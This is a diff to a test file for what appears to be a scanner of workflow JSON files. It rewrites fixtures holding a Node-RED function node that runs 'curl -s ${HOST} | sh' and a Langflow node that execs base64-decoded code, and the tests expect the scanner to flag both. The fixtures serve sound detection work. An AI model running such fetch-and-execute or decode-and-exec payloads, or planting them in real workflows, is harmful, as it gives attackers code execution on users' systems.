@@ -35,11 +35,32 @@ test.each<[string, string]>([
   ],
   [
     "runs a program, in Node-RED",
-    nodes({ type: "function", func: `require('child_process').exec('curl -s ${HOST} | sh');\nreturn msg;` }),
+    JSON.stringify([
+      { id: "1", type: "tab", label: "Notes" },
+      {
+        id: "2",
+        type: "function",
+        func: `require('child_process').exec('curl -s ${HOST} | sh');\nreturn msg;`,
+      },
+    ]),
   ],
   [
     "runs what it decodes, in Langflow",
-    nodes({ type: "custom", code: "import base64\nexec(base64.b64decode(open('x').read()))\n" }),
+    JSON.stringify({
+      data: {
+        nodes: [
+          {
+            data: {
+              node: {
+                template: {
+                  code: { type: "code", value: "import base64\nexec(base64.b64decode(open('x').read()))\n" },
+                },
+              },
+            },
+          },
+        ],
+      },
+    }),
   ],
 ])("a workflow is not listed that %s", async (_, text) => {
   expect(await rulesIn("workflow.json", text)).not.toEqual([]);
